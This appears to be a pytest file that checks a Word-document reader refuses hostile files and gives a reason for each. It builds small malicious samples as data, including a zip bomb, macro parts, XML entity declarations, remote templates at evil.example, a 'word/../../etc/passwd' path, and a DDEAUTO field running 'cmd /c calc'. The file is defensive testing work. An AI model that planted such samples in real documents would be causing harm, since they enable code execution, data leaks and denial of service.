"""Word files from outside that are refused, each with its reason, before any of them is understood."""

from __future__ import annotations

import io
import random
import struct
import zipfile

import pytest

from papers.document import plain
from papers.errors import PapersError
from papers.readers.word import read_blocks, read_word
from tests.readers.word_files import MAIN, SPACES, field, para, png, relations, run, types, word_file

AXIS = (
    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:valAx><c:scaling><c:max val="9"/><c:min val="0"/></c:scaling>'
    '<c:majorUnit val="1E-9"/></c:valAx></c:chartSpace>'
)
SETTINGS = "word/settings.xml"
DENSE = random.Random(1).randbytes(100).ljust(16_000, b"\0") * 3600
"""58 MB that a zip archive packs to about a hundredth: not yet a bomb."""

LOCAL = ("Normal.dotm", "file:///C:\\Users\\jo\\Normal.dotm", "C:\\Users\\jo\\Normal.dotm", "file:///C:/Program%20Files/Office/x.dotx")


def document(inner: str, before: str = "") -> str:
    return f"{before}<w:document {SPACES}><w:body>{inner}</w:body></w:document>"


def bomb() -> bytes:
    return word_file(para("x"), parts={"word/big.xml": b"<a>" + b" " * (8 << 20) + b"</a>"})


def overlapping() -> bytes:
    """An archive whose directory names one stretch of data twice."""
    data = bytearray(word_file(para("x")))
    end = data.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", data[end + 10 : end + 20])
    again = bytes(data[start : start + size]).replace(b"word/document.xml", b"word/documenu.xml")
    data[end:end] = again
    data[end + len(again) + 8 : end + len(again) + 20] = struct.pack("<HHII", 2 * count, 2 * count, size + len(again), start)
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(word_file(para("x")))
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def wide_png() -> bytes:
    return png()[:16] + struct.pack(">II", 65535, 65535) + png()[24:]


def twice() -> bytes:
    out = io.BytesIO(word_file(para("x")))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", document(para("other")))
    return out.getvalue()


HOSTILE = {
    "an old binary file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old binary Office file"),
    "no archive": (b"%PDF-1.7", "no Word file"),
    "a damaged archive": (word_file(para("x"))[:-30], "archive is damaged"),
    "a file without end": (b"PK\x03\x04" + b"\0" * (26 << 20), "larger than 25 MB"),
    "a bomb": (bomb(), "times its size"),
    "parts that overlap": (overlapping(), "overlap"),
    "an encrypted part": (encrypted(), "encrypted"),
    "macros": (word_file(para("x"), parts={"word/vbaProject.bin": b"x"}), "macros"),
    "a macro type": (word_file(para("x"), parts={"[Content_Types].xml": types(MAIN.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"))}), "made to hold macros"),
    "a workbook by another name": (word_file(para("x"), parts={"[Content_Types].xml": types("application/x")}), "no plain Word document"),
    "entities": (word_file(parts={"word/document.xml": document(para("&x;"), '<!DOCTYPE w [<!ENTITY x "boom">]>')}), "declares XML entities"),
    "entities in another encoding": (
        word_file(parts={"word/document.xml": document(para("x"), '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w>').encode("utf-16")}),
        "declares XML entities",
    ),
    "an encoding that hides": (word_file(parts={"word/document.xml": b"\xff\x00<w"}), "unusual encoding"),
    "a part that is no XML": (word_file(parts={"word/document.xml": "<w:document"}), "not XML"),
    "elements without end": (word_file(parts={"word/document.xml": "<a>" * 5000 + "</a>" * 5000}), "not XML"),
    "a remote template": (
        word_file(para("x"), parts={"word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", "https://evil.example/t.dotm"), external=("r1",))}),
        "tied to a template elsewhere",
    ),
    "a template on a server": (
        word_file(para("x"), parts={"word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", "file:///\\\\evil\\t.dotm"), external=("r1",))}),
        "tied to a template elsewhere",
    ),
    "a linked picture in small letters": (
        word_file(para("x"), parts={"word/_rels/document.xml.rels": relations(("r1", "image", "https://evil.example/p.png"), external=("r1",)).replace('"External"', '"external"')}),
        "fetches something",
    ),
    "entities in an encoding that hides them": (
        word_file(parts={"word/document.xml": b"<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-DOCTYPE w>" + document(para("x")).encode()}),
        "unusual encoding",
    ),
    "workbooks that are bombs together": (
        word_file(para("x"), parts={f"word/embeddings/{n}.xlsx": word_file(parts={"a.txt": DENSE}) for n in range(3)}),
        "workbooks unpack to more than",
    ),
    "a cell over two thousand million columns": (
        word_file('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr></w:tc></w:tr></w:tbl>'),
        "a number that Word does not write (gridSpan 2000000000",
    ),
    "a number that is none": (word_file(para("x", properties='<w:numPr><w:ilvl w:val="zero"/></w:numPr>')), "a number that Word does not write"),
    "an axis with ticks without end": (
        word_file(para("x"), parts={"word/charts/chart1.xml": AXIS}),
        "a number that Word does not write (majorUnit",
    ),
    "a linked picture": (word_file(para("x"), links=(("r1", "image", "https://evil.example/p.png"),), external=("r1",)), "fetches something"),
    "an embedded object": (word_file(para("x"), links=(("r1", "oleObject", "embeddings/a.xlsx"),)), "fetches something"),
    "an object in disguise": (word_file(para("x"), parts={"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "embedded object"),
    "a package within": (word_file(para("x"), parts={"word/media/image1.png": b"PK\x03\x04zip"}), "another package"),
    "a chart's workbook with macros": (
        word_file(para("x"), parts={"word/embeddings/a.xlsx": word_file(para("x"), parts={"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "a chart's workbook with entities": (
        word_file(para("x"), parts={"word/embeddings/a.xlsx": word_file(parts={"xl/s.xml": '<!DOCTYPE w [<!ENTITY x "boom">]><w/>'})}),
        "refused: of its workbook word/embeddings/a.xlsx, its part xl/s.xml declares XML entities.",
    ),
    "a workbook for macros that nothing refers to": (word_file(para("x"), parts={"word/embeddings/evil.xlsm": b"no zip"}), "macros"),
    "a picture without end": (word_file(para("x"), parts={"word/media/image1.png": wide_png()}), "is said to be 65535 by 65535 pixels"),
    "half a picture": (word_file(para("x"), parts={"word/media/image1.png": png()[:-12]}), "ends before its last pixel"),
    "a picture that ends at once": (word_file(para("x"), parts={"word/media/image1.png": png()[:14]}), "is damaged"),
    "an unsafe name": (word_file(para("x"), parts={"word/../../etc/passwd": b"x"}), "unsafe name"),
    "a field that runs": (word_file(para(field("DDEAUTO cmd /c calc", run("x")))), "fetches or runs"),
    "a field that runs, split": (word_file(para('<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://x"</w:instrText></w:r>')), "fetches or runs"),
    "a field that fetches": (word_file(para(f'<w:fldSimple w:instr=" INCLUDETEXT c:/x ">{run("x")}</w:fldSimple>')), "fetches or runs"),
    "a field that fetches after one that does not": (word_file(para(field("PAGE", run("1")) + field("INCLUDEPICTURE x", run("x")))), "fetches or runs"),
    "a field that fetches within another": (
        word_file(para('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>' + field("LINK x", run("x")))),
        "fetches or runs",
    ),
    "no body": (word_file(para("x"), parts={"_rels/.rels": relations()}), "no body"),
    "Strict Open XML": (
        word_file(parts={"word/document.xml": '<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}),
        "Strict Open XML",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_with_the_reason(what):
    data, reason = HOSTILE[what]
    for reader in (read_word, lambda given: read_blocks(given, "x")):
        with pytest.raises(PapersError) as caught:
            reader(data)
        assert reason.removeprefix("no ") in " ".join(each.message for each in caught.value.problems)
        assert all(each.fix for each in caught.value.problems)


def test_two_parts_of_one_name_are_refused():
    with pytest.raises(PapersError, match="the same name"):
        read_word(twice())


def test_every_reason_is_given_at_once():
    data = word_file(para("x"), parts={"word/vbaProject.bin": b"x", "word/activeX/a.xml": "<a/>"})
    with pytest.raises(PapersError) as caught:
        read_word(data)
    assert len(caught.value.problems) == 2


@pytest.mark.parametrize("address", LOCAL)
def test_a_template_on_the_officers_own_machine_is_left_aside_and_that_is_said(address):
    related = relations(("r1", "attachedTemplate", address), external=("r1",))
    data = word_file(
        para("Words"),
        parts={SETTINGS: f"<w:settings {SPACES}/>", "word/_rels/settings.xml.rels": related},
        links=(("r2", "settings", "settings.xml"),),
    )
    blocks, problems = read_blocks(data, "x")
    assert [plain(each.inlines) for each in blocks] == ["Words"]
    assert [(each.code, each.level) for each in problems] == [("word-template-dropped", "advice")]


def test_a_plain_file_passes():
    assert read_blocks(word_file(para("Words")), "x")[1] == ()
